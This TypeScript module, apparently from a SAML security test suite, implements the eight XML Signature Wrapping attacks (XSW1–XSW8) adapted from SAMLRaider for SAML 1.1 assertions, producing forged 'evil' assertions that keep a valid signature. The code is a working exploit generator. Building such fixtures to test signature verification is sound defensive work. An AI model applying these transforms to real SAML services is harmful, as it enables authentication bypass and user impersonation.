/**
 * XML Signature Wrapping XSW1–XSW8, in SAMLRaider's numbering, adapted to SAML 1.1: the id
 * attribute is `AssertionID`; XSW1 and XSW2 (SAMLRaider: on the signed Response) act on the
 * signed root, which in a SAML bearer grant is the Assertion itself; XSW3–XSW8 (SAMLRaider: on
 * the signed Assertion inside a Response) put the assertion in a SAML 1.1 `samlp:Response`
 * first. The evil copy gets the evil claims and, where SAMLRaider renames it, `_evil_assertion_ID`.
 * @see CompassSecurity/SAMLRaider src/main/java/helpers/XSWHelpers.java (applyXSW1…applyXSW8)
 * @see Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012
 */
import { NS } from '../../xml/namespaces.ts';
import {
  applyEvil,
  dropSignature,
  EVIL_ASSERTION_ID,
  readSigned,
  signatureOf,
  wrapInResponse,
  write,
} from './edit.ts';
import type { AttackInput, SamlAttack } from './types.ts';

const SOURCE = 'CompassSecurity/SAMLRaider XSWHelpers.java';

/** XSW1/XSW2: the root turns evil; an unsigned copy of the signed original goes in/before its Signature. */
function rootLevel(where: 'inside-signature' | 'before-signature') {
  return ({ signed, evil }: AttackInput): string => {
    const s = readSigned(signed);
    const copy = dropSignature(s.assertion.cloneNode(true) as Element);
    applyEvil(s.assertion, evil);
    if (where === 'inside-signature') s.signature.appendChild(copy);
    else s.signature.parentNode!.insertBefore(copy, s.signature);
    s.assertion.setAttribute('AssertionID', EVIL_ASSERTION_ID);
    return write(s.doc);
  };
}

/** The first saml:Assertion of the Response document, as SAMLRaider picks it. */
function inResponse(signed: string) {
  const { doc, response } = wrapInResponse(readSigned(signed));
  const assertion = doc.getElementsByTagNameNS(NS.saml11, 'Assertion').item(0)!;
  return { doc, response, assertion };
}

function evilCopy(assertion: Element, input: AttackInput): Element {
  return applyEvil(assertion.cloneNode(true) as Element, input.evil);
}

export const XSW_ATTACKS: readonly SamlAttack[] = [
  {
    name: 'xsw1',
    fixture: 'xsw1-evil-root-signed-copy-inside-signature',
    summary:
      'the signed root becomes the evil assertion; an unsigned copy of the original sits inside its ds:Signature',
    source: `${SOURCE} applyXSW1 (Response-level, applied to the signed root Assertion)`,
    apply: rootLevel('inside-signature'),
  },
  {
    name: 'xsw2',
    fixture: 'xsw2-evil-root-signed-copy-before-signature',
    summary:
      'the signed root becomes the evil assertion; an unsigned copy of the original sits just before its ds:Signature',
    source: `${SOURCE} applyXSW2 (Response-level, applied to the signed root Assertion)`,
    apply: rootLevel('before-signature'),
  },
  {
    name: 'xsw3',
    fixture: 'xsw3-evil-assertion-before-signed',
    summary:
      'in a Response, an unsigned evil assertion (_evil_assertion_ID) is placed before the signed one',
    source: `${SOURCE} applyXSW3`,
    apply: (input) => {
      const { doc, response, assertion } = inResponse(input.signed);
      const evil = dropSignature(evilCopy(assertion, input));
      evil.setAttribute('AssertionID', EVIL_ASSERTION_ID);
      response.insertBefore(evil, assertion);
      return write(doc);
    },
  },
  {
    name: 'xsw4',
    fixture: 'xsw4-signed-assertion-inside-evil',
    summary:
      'in a Response, an unsigned evil assertion is appended and the signed one is moved inside it',
    source: `${SOURCE} applyXSW4`,
    apply: (input) => {
      const { doc, response, assertion } = inResponse(input.signed);
      const evil = dropSignature(evilCopy(assertion, input));
      evil.setAttribute('AssertionID', EVIL_ASSERTION_ID);
      response.appendChild(evil);
      evil.appendChild(assertion);
      return write(doc);
    },
  },
  {
    name: 'xsw5',
    fixture: 'xsw5-evil-assertion-keeps-signature-copy-last',
    summary:
      'in a Response, the signed assertion turns evil (keeping the ds:Signature); an unsigned copy of the original is appended last',
    source: `${SOURCE} applyXSW5`,
    apply: (input) => {
      const { doc, response, assertion } = inResponse(input.signed);
      const copy = dropSignature(assertion.cloneNode(true) as Element);
      applyEvil(assertion, input.evil);
      response.appendChild(copy);
      assertion.setAttribute('AssertionID', EVIL_ASSERTION_ID);
      return write(doc);
    },
  },
  {
    name: 'xsw6',
    fixture: 'xsw6-signed-copy-inside-evil-signature',
    summary:
      'in a Response, the signed assertion turns evil; an unsigned copy of the original sits inside its ds:Signature',
    source: `${SOURCE} applyXSW6`,
    apply: (input) => {
      const { doc, assertion } = inResponse(input.signed);
      const signature = signatureOf(assertion)!;
      const copy = dropSignature(assertion.cloneNode(true) as Element);
      applyEvil(assertion, input.evil);
      signature.appendChild(copy);
      assertion.setAttribute('AssertionID', EVIL_ASSERTION_ID);
      return write(doc);
    },
  },
  {
    name: 'xsw7',
    fixture: 'xsw7-evil-assertion-in-extensions',
    summary:
      'in a Response, an unsigned evil copy with the same AssertionID sits in an <Extensions> element before the signed one',
    source: `${SOURCE} applyXSW7`,
    apply: (input) => {
      const { doc, response, assertion } = inResponse(input.signed);
      const extensions = doc.createElement('Extensions');
      response.insertBefore(extensions, assertion);
      extensions.appendChild(dropSignature(evilCopy(assertion, input)));
      return write(doc);
    },
  },
  {
    name: 'xsw8',
    fixture: 'xsw8-signed-copy-in-signature-object',
    summary:
      'in a Response, the signed assertion turns evil; an unsigned copy of the original (same AssertionID) sits in an <Object> inside its ds:Signature',
    source: `${SOURCE} applyXSW8`,
    apply: (input) => {
      const { doc, assertion } = inResponse(input.signed);
      const signature = signatureOf(assertion)!;
      const copy = dropSignature(assertion.cloneNode(true) as Element);
      applyEvil(assertion, input.evil);
      const object = doc.createElement('Object');
      signature.appendChild(object);
      object.appendChild(copy);
      return write(doc);
    },
  },
];
